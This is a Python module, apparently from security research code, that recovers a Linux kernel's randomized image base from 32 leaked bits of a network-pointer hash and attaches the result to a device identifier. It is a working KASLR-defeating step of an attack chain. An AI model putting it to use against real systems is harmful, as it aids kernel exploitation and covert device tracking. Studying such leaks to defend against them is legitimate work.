"""Kernel image base recovery from the 32 bits of g(net) learned by an A3 search."""

from __future__ import annotations

from dataclasses import dataclass

from ..linuxstack import DEFAULT_RHO, Arch, arch_base, kaslr_slot


@dataclass(frozen=True)
class LinuxDeviceId:
    key: int
    g_net: int | None = None
    reconstructed_kernel_base: int | None = None


def reconstruct_kernel_base(g_net: int, rho: int | None, arch, init_net_offset: int) -> int:
    """Rebuild the image base from g(net) = (net >> rho) mod 2^32.

    Bits rho..rho+31 of the net pointer come from g(net). The bits below rho
    and above rho+31 come from the nominal (unrandomized) pointer, allowing
    for a carry into the high part. The result must be a legal base for the
    architecture.
    """
    arch = Arch(arch)
    rho = DEFAULT_RHO[arch] if rho is None else rho
    nominal = arch_base(arch) + init_net_offset
    low = nominal & ((1 << rho) - 1)
    high = nominal >> (rho + 32)
    found = set()
    for h in (high, high + 1):
        net = (h << (rho + 32)) | ((g_net & 0xFFFFFFFF) << rho) | low
        base = (net - init_net_offset) & ((1 << 64) - 1)
        try:
            kaslr_slot(arch, base)
        except ValueError:
            continue
        found.add(base)
    if len(found) != 1:
        raise ValueError(f"g(net)={g_net:#010x} is inconsistent with {arch.value} layout constraints"
                         if not found else "ambiguous kernel base")
    return found.pop()


def device_id_from_key(accepted, config) -> LinuxDeviceId:
    """LinuxDeviceId for an accepted key, including the kernel base when g(net) is known."""
    if accepted.g_net is None:
        return LinuxDeviceId(accepted.key)
    base = reconstruct_kernel_base(accepted.g_net, config.rho, config.arch, config.init_net_offset)
    return LinuxDeviceId(accepted.key, accepted.g_net, base)
